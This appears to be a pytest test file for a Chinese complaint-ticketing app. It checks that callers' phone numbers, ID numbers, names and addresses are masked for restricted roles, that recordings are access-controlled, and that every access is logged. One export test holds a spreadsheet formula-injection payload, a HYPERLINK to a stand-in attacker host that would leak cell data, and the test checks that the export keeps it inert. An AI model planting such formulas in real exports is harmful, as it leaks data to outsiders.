"""Citizens' data: masked inside free text for roles that see masked data, recordings only for those who
may hear the caller, and every look, playback, export and refused attempt in 数据访问记录."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import AccessLog, Attachment, RepeatLink, Section, User
from app.services import ledger
from tests.helpers import (
    DISPATCH,
    HANDLE,
    RESPOND,
    SIGN,
    complete,
    export_ledger,
    new_ticket,
    open_item,
    run_to,
    user,
)

PHONE, ID_NUMBER = "13912345678", "110101198001051234"
MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x00" + bytes(200)


def text_of(response) -> str:
    """A page's text, or every cell of a workbook it sends."""
    if "spreadsheet" in response.mimetype:
        wb = load_workbook(io.BytesIO(response.data))
        return " ".join(str(v) for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v)
    return response.get_data(as_text=True)


def complaint():
    ticket = new_ticket(title=f"来电人{PHONE}反映网吧问题",
                        content=f"来电人（电话{PHONE}，身份证号{ID_NUMBER}）反映网吧接纳未成年人。")
    return ticket


def with_recording(browser):
    ticket = complaint()
    run_to(ticket, stop_before="callback")
    item = open_item(ticket, "callback")
    response = browser("huifang").post(f"/tasks/{item.id}", {
        "callback_contacted": "是", "callback_resolved": "解决", "callback_satisfied": "满意",
        "callback_note": "已回访，来电人留了备用号码 139-8765-4321",
        "callback_recording": (io.BytesIO(MP3), "张三的录音.mp3")}, content_type="multipart/form-data")
    assert response.status_code == 302
    return ticket


def test_an_analyst_sees_masked_numbers_cannot_play_the_recording_and_the_admin_sees_both(app, browser):
    ticket = with_recording(browser)
    recording = db.session.scalar(select(Attachment).where(Attachment.ticket_id == ticket.id))
    tongji = browser("tongji")
    page = tongji.get(f"/tickets/{ticket.id}").get_data(as_text=True)
    assert "139****5678" in page and "110101********1234" in page
    assert PHONE not in page and ID_NUMBER not in page and "13987654321" not in page and "8765-4321" not in page
    assert "<audio" not in page and f"/tickets/files/{recording.id}" not in page and "您的角色不能收听" in page
    refused = tongji.get(f"/tickets/files/{recording.id}")
    assert refused.status_code == 403 and refused.data != MP3

    log_page = browser("liucheng").get("/admin/access-log?user=tongji").get_data(as_text=True)
    assert log_page.count('data-outcome="denied"') == 1 and 'data-action="play"' in log_page
    assert 'data-action="view"' in log_page and "已脱敏" in log_page and ticket.ticket_no in log_page
    rows = db.session.scalars(select(AccessLog).where(AccessLog.user_id == user("tongji").id)
                              .order_by(AccessLog.id)).all()
    assert [(r.action, r.outcome, r.masked) for r in rows] == [("view", "allowed", True), ("play", "denied", False)]


def test_who_may_hear_the_caller_plays_and_downloads_under_a_generated_name_and_is_logged(app, browser):
    ticket = with_recording(browser)
    recording = db.session.scalar(select(Attachment).where(Attachment.ticket_id == ticket.id))
    zhuguan = browser("zhuguan")
    played = zhuguan.get(f"/tickets/files/{recording.id}")
    assert played.status_code == 200 and played.data == MP3
    assert played.headers["X-Content-Type-Options"] == "nosniff"
    disposition = played.headers["Content-Disposition"]
    assert disposition.startswith("attachment") and "张三" not in disposition
    assert f"{ticket.ticket_no}-{recording.id}.mp3" in disposition
    zhuguan.get(f"/tickets/files/{recording.id}", headers={"Range": "bytes=100-"})  # seeking: same listening
    zhuguan.get(f"/tickets/files/{recording.id}?download=1")
    actions = [r.action for r in db.session.scalars(select(AccessLog).where(
        AccessLog.user_id == user("zhuguan").id, AccessLog.action != "view").order_by(AccessLog.id))]
    assert actions == ["play", "download"]


def test_masked_text_in_lists_and_task_pages_too(app, browser):
    ticket = complaint()
    complete(ticket, "sign", "paidan", **SIGN)
    complete(ticket, "dispatch", "paidan", **DISPATCH)
    browser("wenhua").post(f"/tickets/{ticket.id}/notes", {"text": f"来电人又来电，电话 {PHONE}"},
                           form_url=f"/tickets/{ticket.id}")
    for who in ("tongji", "jiancha", "shenhe", "fenguan"):
        b = browser(who)
        for url in ("/tickets/", f"/tickets/{ticket.id}", "/repeats/register", "/supervisor/rates"):
            response = b.get(url)
            assert PHONE not in response.get_data(as_text=True), (who, url)
    dispatcher = browser("paidan").get(f"/tickets/{ticket.id}").get_data(as_text=True)
    assert PHONE in dispatcher and ID_NUMBER in dispatcher, "roles that must reach the caller see it all"


def test_no_page_shows_a_masked_reader_the_numbers(app, browser):
    """Walk every page an analyst and an inspector can open about this ticket: no full number anywhere."""
    ticket = with_recording(browser)
    urls = [rule.rule for rule in app.url_map.iter_rules() if "GET" in rule.methods and not rule.arguments]
    urls += [f"/tickets/{ticket.id}", f"/tickets/?q={ticket.ticket_no}"]
    for who in ("tongji", "jiancha"):
        b = browser(who)
        for url in urls:
            if url.startswith(("/api/", "/static", "/logout", "/lang")):
                continue
            body = text_of(b.get(url))
            assert PHONE not in body and ID_NUMBER not in body, (who, url)


def test_the_ledger_export_masks_free_text_and_keeps_formulas_as_text(app, browser):
    ticket = new_ticket(title='=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")',
                        content=f"来电人电话{PHONE}")
    ledger.add_note(ticket.id, user("paidan"), "+1 备注也可能像公式")
    response = export_ledger(browser("tongji"))
    assert response.status_code == 200
    raw = response.data
    ws = load_workbook(io.BytesIO(raw)).active
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2], strict=True)}
    title = row["标题"]
    assert title.value.startswith("=HYPERLINK(") and title.data_type == "s" and title.quotePrefix
    assert row["备注"].quotePrefix and row["备注"].value.startswith("+1")
    assert row["主要内容"].value == "来电人电话139****5678" and row["来电号码"].value == "138****2222"
    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet, "no cell of the export is a formula"
    export = db.session.scalar(select(AccessLog).where(AccessLog.action == "export"))
    assert export.user_id == user("tongji").id and export.masked


def test_the_access_log_is_for_admins_and_supervisors_and_exports(app, browser):
    ticket = complaint()
    browser("paidan").get(f"/tickets/{ticket.id}")
    assert browser("tongji").get("/admin/access-log").status_code == 403
    zhuguan = browser("zhuguan")
    page = zhuguan.get(f"/admin/access-log?ticket_no={ticket.ticket_no}&unmasked=1").get_data(as_text=True)
    assert "张敏" in page and "未脱敏" in page
    response = zhuguan.get(f"/admin/access-log.xlsx?ticket_no={ticket.ticket_no}")
    ws = load_workbook(io.BytesIO(response.data)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:5] == ("时间", "用户名", "姓名", "操作", "结果") and rows[1][1] == "paidan"
    last = db.session.scalars(select(AccessLog).order_by(AccessLog.id.desc())).first()
    assert last.action == "export" and last.user_id == user("zhuguan").id, "exporting the log is logged"
    bad = zhuguan.get("/admin/access-log?since=yesterday")
    assert bad.status_code == 422 and "起始日期应为 YYYY-MM-DD" in bad.get_data(as_text=True)


def test_a_handler_of_another_section_cannot_hear_a_recording(app, browser):
    ticket = with_recording(browser)
    recording = db.session.scalar(select(Attachment).where(Attachment.ticket_id == ticket.id))
    assert db.session.scalar(select(Section.code).join(User, User.section_id == Section.id)
                             .where(User.username == "lvyou")) != "culture_market"
    assert browser("lvyou").get(f"/tickets/files/{recording.id}").status_code == 403
    assert browser("wenhua").get(f"/tickets/files/{recording.id}").status_code == 200


def test_the_callers_name_is_masked_where_free_text_repeats_it(app, browser):
    """联系人 李先生 in the 办理记录 and 李先生您好 in the reply: masked as the 来电人 field is (李**)."""
    ticket = new_ticket(caller_name="李先生", title="李先生反映网吧接纳未成年人", content="市民李先生来电反映网吧问题。")
    run_to(ticket, stop_before="respond")
    complete(ticket, "respond", "wenhua", **dict(RESPOND, contact_person="李先生"))
    complete(ticket, "handle", "wenhua", **dict(HANDLE, reply_draft="李先生您好，经核查，网咖已整改。"))
    review = open_item(ticket, "review")
    for who, url in (("tongji", f"/tickets/{ticket.id}"), ("jiancha", f"/tickets/{ticket.id}"),
                     ("shenhe", f"/tasks/{review.id}"), ("shenhe", f"/tasks/{review.id}/context")):
        body = browser(who).get(url).get_data(as_text=True)
        assert "李先生" not in body and "李**" in body, (who, url)
    dispatcher = browser("paidan").get(f"/tickets/{ticket.id}").get_data(as_text=True)
    assert "李先生您好" in dispatcher, "roles that must reach the caller see the name"


def test_a_name_recorded_as_the_contact_is_masked_whoever_it_is(app, browser):
    """联系人 is a person's name even when it is not the caller's (a relative, a neighbour)."""
    ticket = new_ticket(caller_name="王女士")
    run_to(ticket, stop_before="respond")
    complete(ticket, "respond", "wenhua", **dict(RESPOND, contact_person="张三丰"))
    masked = browser("tongji").get(f"/tickets/{ticket.id}").get_data(as_text=True)
    assert "张三丰" not in masked and "张**" in masked
    assert "张三丰" in browser("paidan").get(f"/tickets/{ticket.id}").get_data(as_text=True)


def test_a_masked_reader_cannot_confirm_a_hidden_address_by_searching_for_it(app, browser):
    new_ticket("T-HIDDEN")  # address 东华路18号, not in its title or content
    new_ticket("T-SAID", content="来电人反映东华路18号网吧接纳未成年人。")  # the content, which all read, says it
    tongji, zhuguan = browser("tongji"), browser("zhuguan")
    page = tongji.get("/tickets/?q=东华路18号").get_data(as_text=True)
    assert "T-HIDDEN" not in page and "T-SAID" in page
    assert "T-HIDDEN" in zhuguan.get("/tickets/?q=东华路18号").get_data(as_text=True), "a supervisor sees addresses"
    assert "T-HIDDEN" in tongji.get("/tickets/?q=网吧").get_data(as_text=True), "words they can see still find it"


def test_the_ledger_finds_a_caller_by_number_only_for_those_who_may_see_callers(app, browser):
    for no, phone in (("T-CALLER", "138-1111-2222"), ("T-OTHER", "13933334444")):  # in no title or content
        ticket = new_ticket(no, caller_phone=phone)
        complete(ticket, "sign", "paidan", **SIGN)
        complete(ticket, "dispatch", "paidan", **DISPATCH)  # to 文化市场科, whose handler wenhua is
    new_ticket("T-SAID", title=f"来电人{PHONE}反映网吧问题", caller_phone="13500001111")  # a number in the title
    for name in ("paidan", "zhuguan", "wenhua"):  # the dispatcher, a supervisor, the section's handler
        page = browser(name).get("/tickets/?q=13811112222").get_data(as_text=True)
        assert "T-CALLER" in page and "T-OTHER" not in page, name
    typed = browser("paidan").get("/tickets/?q=（+86）１３８ １１１１ ２２２２").get_data(as_text=True)
    assert "T-CALLER" in typed and "T-OTHER" not in typed, "full width, +86 and spaces as a Chinese IME types them"
    assert "来电号码" in browser("paidan").get("/tickets/").get_data(as_text=True), "the search box says so"
    tongji = browser("tongji")  # the analyst sees every caller's number masked
    for q in ("13811112222", PHONE):
        page = tongji.get(f"/tickets/?q={q}").get_data(as_text=True)
        assert "T-CALLER" not in page and "T-SAID" not in page and "没有符合条件的工单" in page, q
    assert "T-SAID" in tongji.get("/tickets/?q=网吧问题").get_data(as_text=True), "words they can see still find it"
    assert "来电号码" not in tongji.get("/tickets/").get_data(as_text=True)
    logged = db.session.scalars(select(AccessLog).where(AccessLog.where == "案件台账：按来电号码查询")
                                .order_by(AccessLog.id)).all()
    assert [(r.user.username, r.detail) for r in logged] == [
        ("paidan", "来电号码 138****2222，1 件"), ("zhuguan", "来电号码 138****2222，1 件"),
        ("wenhua", "来电号码 138****2222，1 件"), ("paidan", "来电号码 138****2222，1 件")], \
        "each search by a number in the access log; none for the analyst, who searched masked"


def test_a_masked_reader_cannot_confirm_a_masked_number_name_or_email_by_searching_for_it(app, browser):
    """The ledger's search finds for a masked reader only what the page shows him: searching the full phone
    number (or its first digits, one more each time) must not confirm the 138****2222 the page masks."""
    new_ticket("T-MASKED", caller_name="李建国", caller_phone=PHONE,
               content=f"李建国来电，回电{PHONE}，身份证{ID_NUMBER}，邮箱lijianguo@163.com，反映KTV噪音")
    tongji, zhuguan = browser("tongji"), browser("zhuguan")
    assert "T-MASKED" in tongji.get("/tickets/").get_data(as_text=True)
    for hidden in (PHONE, PHONE[:7], PHONE[:4], ID_NUMBER, ID_NUMBER[:10], "李建国", "lijianguo"):
        assert "T-MASKED" not in tongji.get("/tickets/", query_string={"q": hidden}).get_data(as_text=True), hidden
        assert "T-MASKED" in zhuguan.get("/tickets/", query_string={"q": hidden}).get_data(as_text=True), hidden
    for shown in ("KTV", "噪音", "T-MASKED"):
        assert "T-MASKED" in tongji.get("/tickets/", query_string={"q": shown}).get_data(as_text=True), shown


def test_the_words_two_repeat_tickets_share_are_the_words_a_masked_reader_is_shown(app, browser):
    """重复反映对比's 共同关键词 once listed the caller's number, name and card number to an analyst."""
    content = f"张三丰反映网吧接纳未成年人，联系电话{PHONE}，卡号4111111111111111，邮箱zsf@example.com。"
    first = new_ticket("T-0001", caller_name="张三丰", caller_phone=PHONE, content=content)
    new_ticket("T-0002", caller_name="张三丰", caller_phone=PHONE, content=content)
    link = db.session.scalar(select(RepeatLink).where(RepeatLink.earlier_id == first.id))
    assert link is not None
    for who in ("tongji", "jiancha", "shenhe"):
        page = browser(who).get(f"/repeats/{link.id}").get_data(as_text=True)
        assert "共同关键词" in page and "未成年人" in page, who
        for secret in (PHONE, "张三丰", "4111111111111111", "zsf@"):
            assert secret not in page, (who, secret)
    dispatcher = browser("paidan").get(f"/repeats/{link.id}").get_data(as_text=True)
    assert PHONE in dispatcher and "张三丰" in dispatcher
